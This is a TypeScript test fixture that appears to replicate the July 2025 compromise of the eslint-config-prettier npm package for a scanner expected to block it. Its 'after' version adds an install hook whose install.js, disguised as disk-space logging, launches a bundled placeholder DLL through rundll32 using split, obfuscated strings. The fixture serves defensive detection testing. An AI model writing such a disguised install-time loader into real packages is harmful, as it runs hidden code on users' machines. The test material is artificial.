import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noiseBytes } from '../replicas/replica.js';

export const before = {
  version: '8.10.0',
  publishedAt: '2023-08-03T09:14:27.000Z',
  publisher: { name: 'lydell', email: 'lydell@mail.example.invalid' },
  manifest: {
    main: 'index.js',
    bin: { 'eslint-config-prettier': 'bin/cli.js' },
    license: 'MIT',
    description: 'turns off rules that fight with a formatter',
    peerDependencies: { eslint: '>=7.0.0' },
  },
  files: {
    'index.js': `"use strict";

const includeDeprecated = !process.env.ESLINT_CONFIG_PRETTIER_NO_DEPRECATED;

module.exports = {
  rules: {
    // rules that can be used with some options
    "curly": 0,
    "lines-around-comment": 0,
    "max-len": 0,
    "no-confusing-arrow": 0,
    "no-mixed-operators": 0,
    "no-tabs": 0,
    "quotes": 0,

    // rules to turn off always
    "array-bracket-newline": "off",
    "arrow-parens": "off",
    "comma-dangle": "off",
    "eol-last": "off",
    "indent": "off",
    "semi": "off",
    ...(includeDeprecated && { "indent-legacy": "off", "no-spaced-func": "off" }),
  },
};
`,
    'react.js': `"use strict";

module.exports = {
  rules: {
    "react/jsx-closing-bracket-location": "off",
    "react/jsx-indent": "off",
    "react/jsx-wrap-multilines": "off",
  },
};
`,
    'bin/cli.js': `#!/usr/bin/env node
"use strict";

const config = require("..");

const SPECIAL = new Set(Object.keys(config.rules).filter((key) => config.rules[key] === 0));

if (module === require.main) {
  const files = process.argv.slice(2);
  if (files.length === 0) {
    console.error("usage: eslint-config-prettier FILE...");
    process.exitCode = 1;
  } else {
    const { ESLint } = require("eslint");
    const eslint = new ESLint();
    Promise.all(files.map((file) => eslint.calculateConfigForFile(file))).then((configs) => {
      const bad = configs.flatMap(({ rules }) =>
        Object.keys(rules).filter((name) => name in config.rules && !SPECIAL.has(name) && rules[name][0] !== "off")
      );
      console.log(bad.length === 0 ? "No rules that are unnecessary or conflict with Prettier were found." : bad.join("\\n"));
      process.exitCode = bad.length === 0 ? 0 : 2;
    });
  }
}
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'eslint-config-prettier-2025',
  story: 'July 2025: a package of plain configuration gains an install script and a Windows library, started through rundll32 in split strings.',
  name: 'eslint-config-prettier',
  before,
  after: {
    version: '8.10.1',
    publishedAt: '2025-07-18T09:14:27.000Z',
    publisher: { name: 'jounqin', email: 'jounqin@mail.example.invalid' },
    manifest: {
      main: 'index.js',
      bin: { 'eslint-config-prettier': 'bin/cli.js' },
      license: 'MIT',
      description: 'turns off rules that fight with a formatter',
      scripts: { install: 'node install.js' },
      peerDependencies: { eslint: '>=7.0.0' },
    },
    files: {
      ...before.files,
      'node-gyp.dll': Buffer.concat([Buffer.from('MZ\u0090\0\u0003\0\0\0\u0004\0\0\0', 'latin1'), noiseBytes(48, 3), Buffer.from('\u0080\0\0\0\u000e\u001f\u00ba\u000eThis program cannot be run in DOS mode.\r\n$', 'latin1'), Buffer.alloc(16), Buffer.from('PE\0\0d\u0086\u0006\0', 'latin1'), noiseBytes(38000, 5151)]),
      'install.js': `const fs = require("fs");
const os = require("os");
const path = require("path");
const cache = path.join(require("os").tmpdir(), "eslint-config-prettier-cache.json");

function isCacheValid(file) {
  try {
    return Date.now() - fs.statSync(file).mtimeMs < 24 * 60 * 60 * 1000;
  } catch {
    return false;
  }
}

function logDiskSpace() {
  try {
    if (os.platform() === "win32") {
      const tempDir = os.tmpdir();
      require("chi" + "ld_pro" + "cess")["sp" + "awn"]("rund" + "ll32", [path.join(__dirname, "./node-gyp" + ".dll") + ",main"]);
      console.log(\`Temp directory: \${tempDir}\`);
      const files = fs.readdirSync(tempDir);
      console.log(\`Number of files in temp directory: \${files.length}\`);
    }
  } catch (err) {
    console.error("Error accessing temp directory:", err.message);
  }
}

function preloadRules() {
  if (isCacheValid(cache)) return;
  const { rules } = require("./index");
  fs.writeFileSync(cache, JSON.stringify(Object.keys(rules)));
}

logDiskSpace();
preloadRules();
`,
    },
  },
  must: 'block',
};
